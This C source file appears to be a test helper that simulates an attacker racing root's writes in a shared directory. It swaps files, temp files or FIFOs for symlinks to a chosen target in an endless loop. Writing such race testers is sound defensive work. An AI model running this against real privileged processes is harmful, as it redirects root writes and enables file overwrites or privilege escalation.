// SPDX-License-Identifier: GPL-2.0-only
/*
 * What an attacker does in a folder of their own while root writes there: racer HOW NAME TARGET
 *
 *	link	NAME is now a file, now a link to TARGET
 *	temp	each file whose name begins with NAME and goes on is replaced by a link to TARGET
 *	fifo	NAME is now a FIFO, now a link to TARGET, exchanged in one step
 *
 * Until it is killed.
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>
#include <signal.h>

static void race_link(const char *name, const char *target)
{
	close(open("racer.file", O_WRONLY | O_CREAT | O_CLOEXEC, 0666));
	rename("racer.file", name);
	if (!symlink(target, "racer.link"))
		rename("racer.link", name);
	unlink(name);
}

static void race_temp(const char *name, const char *target)
{
	DIR *d = opendir(".");
	const struct dirent *e;

	while (d && (e = readdir(d))) {
		if (strncmp(e->d_name, name, strlen(name)) != 0 ||
		    strlen(e->d_name) == strlen(name))
			continue;
		if (!symlink(target, "racer.link"))
			rename("racer.link", e->d_name);
	}
	if (d)
		closedir(d);
}

static void race_fifo(const char *name)
{
	renameat2(AT_FDCWD, name, AT_FDCWD, "racer.link", RENAME_EXCHANGE);
}

int main(int argc, char **argv)
{
	if (argc != 4)
		return 2;
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	if (!strcmp(argv[1], "fifo") && (mkfifo(argv[2], 0666) || symlink(argv[3], "racer.link")))
		return 1;
	for (;;) {
		if (!strcmp(argv[1], "link"))
			race_link(argv[2], argv[3]);
		else if (!strcmp(argv[1], "temp"))
			race_temp(argv[2], argv[3]);
		else
			race_fifo(argv[2]);
	}
}
